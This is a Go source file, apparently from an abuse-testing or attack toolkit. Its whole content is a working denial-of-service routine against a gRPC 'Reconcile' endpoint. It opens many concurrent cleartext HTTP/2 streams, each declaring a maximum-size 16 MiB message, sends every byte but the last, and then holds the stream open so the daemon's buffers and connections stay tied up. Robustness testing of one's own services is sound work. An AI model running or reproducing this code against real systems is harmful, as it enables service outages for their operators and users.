package abuse

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"sync"
)

const (
	reconcilePath = "/greenlane.v1.SwitchService/Reconcile"
	largest       = 16 << 20 // bytes of a message that the daemon takes
)

// endless sends requests whose messages are as large as they may be, and lack their
// last byte.
func endless(ctx context.Context, t Target) error {
	client := &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return apiDoor.connect(ctx, t, "h2") },
		Protocols:   new(http.Protocols),
	}
	client.Protocols.SetUnencryptedHTTP2(true)
	defer client.CloseIdleConnections()
	head := binary.BigEndian.AppendUint32([]byte{0}, largest)
	var all sync.WaitGroup
	for range t.Clients {
		all.Go(func() {
			for ctx.Err() == nil {
				body := io.MultiReader(bytes.NewReader(head), io.LimitReader(zeros{}, largest-1), silence{ctx})
				req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+t.Addr+reconcilePath, body)
				if err != nil {
					return // the address is a wrong one
				}
				req.Header = http.Header{"Content-Type": {"application/grpc"}, "Te": {"trailers"}}
				if res, err := client.RoundTrip(req); err == nil {
					_, _ = io.Copy(io.Discard, res.Body) // it was refused
					_ = res.Body.Close()                 // as above
				}
			}
		})
	}
	all.Wait()
	return nil
}

type zeros struct{}

// Read implements io.Reader.
func (zeros) Read(b []byte) (int, error) {
	clear(b)
	return len(b), nil
}

// silence reads nothing until its context ends.
type silence struct{ ctx context.Context }

// Read implements io.Reader.
func (s silence) Read([]byte) (int, error) {
	<-s.ctx.Done()
	return 0, s.ctx.Err()
}
